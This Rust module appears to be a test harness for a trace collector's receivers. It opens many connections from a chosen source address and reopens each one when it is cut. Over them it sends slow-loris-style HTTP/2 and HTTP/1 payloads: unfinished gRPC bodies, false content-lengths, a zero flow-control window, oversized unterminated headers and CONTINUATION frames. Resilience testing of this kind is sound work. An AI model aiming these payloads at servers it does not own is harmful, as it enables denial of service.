//! Attacks on the connections of the receivers: many of them at once, from a peer of their own, renewed as they are cut.
#![allow(dead_code, reason = "each user needs a part of it")]

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// What a client of HTTP/2 begins with.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const EXPORT: &str = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
/// Wait until a connection that was cut is opened anew.
const REOPEN: Duration = Duration::from_millis(500);
/// Requests of a connection.
const STREAMS: u32 = 200;

/// What each connection sends before it falls silent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// gRPC requests that claim a large message and send nothing of it.
    Claims,
    /// The same over HTTP/2 with a `content-length`.
    Lengths,
    /// HTTP/2 requests whose answers may not be sent, because the window is 0.
    Unread,
    /// 390 KB of headers over HTTP/1 that do not end.
    Headers,
    /// 15 KB of headers over HTTP/2 that do not end.
    Continuations,
    /// Most of a large frame of data, on a request of its own.
    Frames,
    /// Nothing.
    Silence,
}

/// An attack that is under way. Ends when dropped.
pub struct Attackers {
    _tasks: JoinSet<()>,
    /// Connections that were opened, and cut by the other side.
    pub opened: Arc<AtomicU64>,
    pub cut: Arc<AtomicU64>,
}

/// Opens `connections` connections to `address` from `source`, and a new one for each that is cut.
pub fn start(attack: Attack, source: IpAddr, address: SocketAddr, connections: usize) -> Attackers {
    let bytes: Arc<[u8]> = attack.bytes().into();
    let (opened, cut) = (Arc::<AtomicU64>::default(), Arc::<AtomicU64>::default());
    let mut tasks = JoinSet::new();
    for _ in 0..connections {
        let (bytes, opened, cut) = (bytes.clone(), opened.clone(), cut.clone());
        tasks.spawn(async move {
            loop {
                if let Ok(mut stream) = connect(source, address).await {
                    opened.fetch_add(1, Ordering::Relaxed);
                    let _ = stream.write_all(&bytes).await;
                    let mut ignored = [0; 1024];
                    while matches!(stream.read(&mut ignored).await, Ok(1..)) {}
                    cut.fetch_add(1, Ordering::Relaxed);
                }
                tokio::time::sleep(REOPEN).await;
            }
        });
    }
    Attackers { _tasks: tasks, opened, cut }
}

/// Connects from an address of its own.
pub async fn connect(source: IpAddr, address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    // Ends with a reset, which leaves no port behind that waits.
    socket.set_zero_linger()?;
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(address).await
}

/// A frame of HTTP/2.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header that is not in the static table.
fn header(name: &str, value: &str) -> Vec<u8> {
    [&[0, name.len() as u8], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
}

/// The headers of a request: `:method` by its index in the static table.
fn head(method: u8, path: &str, more: &[u8]) -> Vec<u8> {
    // :scheme http; :path as the fourth name of the table.
    [&[0x80 | method, 0x86, 0x04, path.len() as u8], path.as_bytes(), more].concat()
}

fn post(path: &str, media: &str, more: &[u8]) -> Vec<u8> {
    head(3, path, &[&header("content-type", media)[..], more].concat())
}

// === impl Attack ===

impl Attack {
    /// What a connection sends.
    fn bytes(self) -> Vec<u8> {
        let hello = [PREFACE, &frame(4, 0, 0, &[])].concat();
        let streams = (0..STREAMS).map(|number| 2 * number + 1);
        match self {
            Self::Claims => {
                let headers = post(EXPORT, "application/grpc", &header("te", "trailers"));
                let request = |stream| [frame(1, 4, stream, &headers), frame(0, 0, stream, &[0, 3, 0, 0, 0])].concat();
                [hello, streams.flat_map(request).collect()].concat()
            }
            Self::Lengths => {
                let headers = post("/v1/traces", "application/x-protobuf", &header("content-length", "10000000"));
                [hello, streams.flat_map(|stream| frame(1, 4, stream, &headers)).collect()].concat()
            }
            Self::Unread => {
                let window = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
                let headers = head(2, "/nope", &[]);
                [PREFACE.to_vec(), window, streams.flat_map(|stream| frame(1, 5, stream, &headers)).collect()].concat()
            }
            Self::Headers => format!("GET / HTTP/1.1\r\nx: {}", "a".repeat(390_000)).into_bytes(),
            Self::Continuations => {
                let part = [&head(3, EXPORT, &[])[..], &[0, 1, b'x', 0x7f, 0x80, 0x7f], &[b'a'; 7_000]].concat();
                [hello, frame(1, 0, 1, &part), frame(9, 0, 1, &[b'a'; 8_000])].concat()
            }
            Self::Frames => {
                let headers = post(EXPORT, "application/grpc", &header("te", "trailers"));
                let mut data = frame(0, 0, 1, &[0; 128 << 10]);
                data.truncate(120 << 10);
                [hello, frame(1, 4, 1, &headers), data].concat()
            }
            Self::Silence => Vec::new(),
        }
    }
}
